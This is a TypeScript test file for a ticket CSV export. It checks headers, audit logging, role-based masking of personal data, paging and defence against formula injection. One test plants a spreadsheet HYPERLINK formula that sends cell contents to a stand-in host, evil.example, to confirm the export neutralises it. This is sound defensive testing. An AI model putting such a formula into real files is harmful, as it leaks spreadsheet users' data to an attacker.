import { csvCell, csvRow } from '@huiyin/domain/csv.ts'
import { logUnavailable } from '@huiyin/domain/errors.ts'
import type { HouseEvent } from '@huiyin/schemas/event.ts'
import fc from 'fast-check'
import t from 'tap'
import { citizenWrites, enter, type House, openHouse } from './house.ts'

const ZHAO = { id: 'zhao', name: '赵宏', role: 'head' }
const LEADER = { id: 'ld', name: '孙县长', role: 'leader' }
const AUDITOR = { id: 'xu', name: '徐审', role: 'auditor', accounts: ['weibo/1001'] }
const LI = { id: 'li', name: '李静', role: 'editor' }

let count = 0
const asks = (house: House, of: object = {}) => {
  const native = `c${++count}`
  return citizenWrites(house, { comment: native, root: native, author: { id: `u${count}`, name: '网友' }, ...of })
}

/** All that stands in the log. */
async function everything({ events }: House): Promise<HouseEvent[]> {
  const seen: HouseEvent[] = []
  while ((await events.lag('test')) > 0)
    for await (const batch of events.read({ group: 'test', atMost: 1000 })) {
      seen.push(...batch.events)
      await batch.commit()
      break
    }
  return seen
}

/** Reads a table as a spreadsheet does (RFC 4180). */
function cells(csv: string): string[][] {
  const rows: string[][] = [[]]
  for (const [, text = '', end] of csv.matchAll(/("(?:[^"]|"")*"|[^,\r\n]*)(,|\r\n|$)/g)) {
    rows.at(-1)!.push(text.startsWith('"') ? text.slice(1, -1).replaceAll('""', '"') : text)
    if (end === '\r\n') rows.push([])
    if (end === '') break
  }
  return rows.filter(row => row.length > 1)
}

t.test('a table of tickets', async t => {
  t.test('has a byte order mark, a header in either language, and a line for each that matches', async t => {
    const house = await openHouse(t)
    const zhao = await enter(house, ZHAO)
    await asks(house, { text: '路灯,坏了\n第二行' })
    await asks(house, { text: '谢谢"大家"', platform: 'wechat', account: '2002' })
    const answer = await zhao.get('/api/tickets/export.csv?platform=weibo')
    t.equal(answer.statusCode, 200)
    t.match(answer.headers, {
      'content-type': 'text/csv; charset=utf-8',
      'content-disposition': /^attachment; filename="tickets-\d{4}-\d\d-\d\d\.csv"$/,
      'cache-control': 'no-store'
    })
    t.equal(answer.rawPayload.subarray(0, 3).toString('hex'), 'efbbbf')
    const [header, row, ...rest] = cells(answer.body.slice(1))
    t.same(header?.slice(0, 3), ['编号', '状态', '类别'])
    t.equal(row?.length, header?.length)
    t.ok(row?.includes('路灯,坏了\n第二行'))
    t.same(rest, [])
    const [english] = cells((await zhao.get('/api/tickets/export.csv?lang=en')).body.slice(1))
    t.same(english?.slice(0, 3), ['Number', 'Status', 'Label'])
  })

  t.test('is told in the log before its first byte, with how many rows and no words of the search', async t => {
    const house = await openHouse(t)
    const zhao = await enter(house, ZHAO)
    await asks(house, { text: '积水' })
    const { append } = house.events
    house.events.append = async () => {
      throw logUnavailable(new Error('away'))
    }
    const refused = await zhao.get('/api/tickets/export.csv?q=积水')
    t.match(refused.json(), { status: 503, code: 'LOG_UNAVAILABLE' })
    house.events.append = append
    await zhao.get(`/api/tickets/export.csv?q=${encodeURIComponent('积水')}&status=open`)
    const exported = (await everything(house)).filter(({ type }) => type === 'exported')
    t.match(exported, [
      { ticket: 'export/tickets', actor: { id: 'zhao' }, data: { what: 'tickets', rows: 1, filter: 'q,status' } }
    ])
    t.notOk(JSON.stringify(exported).includes('积水'))
  })

  t.test('masks personal data for who may not read it, and holds only one’s own accounts', async t => {
    const house = await openHouse(t)
    const [zhao, leader, auditor, li] = await Promise.all([ZHAO, LEADER, AUDITOR, LI].map(one => enter(house, one)))
    await asks(house, { text: '我的电话13800138000' })
    await asks(house, { text: '别的账号', platform: 'wechat', account: '2002' })
    t.match((await zhao!.get('/api/tickets/export.csv')).body, /13800138000/)
    const told = (await leader!.get('/api/tickets/export.csv')).body
    t.notMatch(told, /13800138000/)
    t.match(told, /138\*{4}8000/)
    t.notMatch((await auditor!.get('/api/tickets/export.csv')).body, /别的账号/)
    t.match((await li!.get('/api/tickets/export.csv')).json(), { status: 403, code: 'NOT_ALLOWED' })
    t.match((await leader!.get('/api/tickets/export.csv?q=13800138000')).json(), { status: 403 })
  })

  t.test('holds nothing that a spreadsheet would reckon', async t => {
    const house = await openHouse(t)
    const zhao = await enter(house, ZHAO)
    const attack = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
    await asks(house, { text: attack, author: { id: 'x', name: '@SUM(1+1)' }, postTitle: '\t=1+1' })
    const rows = cells((await zhao.get('/api/tickets/export.csv')).body.slice(1))
    t.ok(rows.flat().includes(`'${attack}`))
    t.ok(rows.flat().includes("'@SUM(1+1)"))
    for (const cell of rows.flat()) t.notMatch(cell, /^\s*[=+\-@]/)
  })

  t.test('of many pages comes whole', async t => {
    const house = await openHouse(t)
    const zhao = await enter(house, ZHAO)
    const document = (await house.store.tickets.get(await asks(house)))!.document
    const many = Array.from({ length: 1_200 }, (_, i) => ({
      document: { ...document, id: `${document.id}-${i}`, number: `N-${i}`, openedAt: document.openedAt - i }
    }))
    await house.store.tickets.putEach(many)
    await house.store.tickets.refresh()
    const rows = cells((await zhao.get('/api/tickets/export.csv')).body.slice(1))
    t.equal(new Set(rows.slice(1).map(([number]) => number)).size, 1_201)
  })
})

t.test('whatever stands in cells, a table says it again and is no formula', async t => {
  const text = fc.oneof(
    fc.string({ unit: 'grapheme' }),
    fc.stringMatching(/^[ \t\r\n]?[=+\-@＝＋－＠\t\r"',;\n][a-z"',\r\n]{0,9}$/)
  )
  fc.assert(
    fc.property(fc.array(fc.array(text, { minLength: 2, maxLength: 5 }), { minLength: 1, maxLength: 5 }), table => {
      const read = cells(table.map(csvRow).join(''))
      t.equal(read.length, table.length)
      read.forEach((row, i) => {
        row.forEach((cell, j) => {
          const meant = table[i]![j]!.replaceAll('\0', '')
          if (cell !== meant && cell !== `'${meant}`) t.fail(`${JSON.stringify(meant)} became ${JSON.stringify(cell)}`)
          if (/^\s*[=+\-@＝＋－＠]|^[\t\r\n]/.test(cell)) t.fail(`${JSON.stringify(cell)} begins a formula`)
        })
      })
    }),
    { seed: 20261122, numRuns: 500 }
  )
  t.equal(csvCell(-5), '-5')
  t.equal(csvCell(undefined), '')
})
